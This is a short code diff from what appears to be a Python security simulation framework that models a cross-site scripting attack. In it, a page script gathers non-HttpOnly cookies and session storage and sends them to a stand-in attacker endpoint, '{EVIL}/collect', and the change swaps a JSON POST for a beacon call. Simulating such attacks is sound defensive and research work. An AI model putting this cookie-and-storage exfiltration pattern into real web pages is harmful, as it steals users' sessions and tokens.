@@ -6,7 +6,7 @@ from typing import Self
 
 from pydantic import Field, model_validator
 
-from sandbox.core.wire import first, json_request, pairs, split
+from sandbox.core.wire import compact, first, pairs, split
 from sandbox.protocol.cast import EVIL
 from sandbox.verbs.names import BrowserName, ClientName, LogKeeper
 from sandbox.verbs.theft import held_by, keep_keys, keep_tokens
@@ -100,11 +100,11 @@ def _read_storage(world: World, name: str, browser: str | None, take: bool) -> O
 
 def _report(client: Hosted, browser: Browser, session: Session | None) -> Outputs:
     """A script in the client's page sends home what it can read: the storage, and the cookies that scripts may see."""
-    jar = browser.cookies.get(split(client.home).netloc, {})
+    jar = browser.jar.of(f"{client.home}/")
     cookies = "; ".join(f"{name}={cookie.value}" for name, cookie in jar.items() if not cookie.http_only)
     held = held_by(session)
     storage = {k: v for k, v in held.items() if v}
-    browser.send(json_request("POST", f"{EVIL}/collect", {"storage": storage, "cookies": cookies}), f"{client.home}/")
+    browser.beacon(f"{EVIL}/collect", compact({"storage": storage, "cookies": cookies}), f"{client.home}/")
     return held
 
 
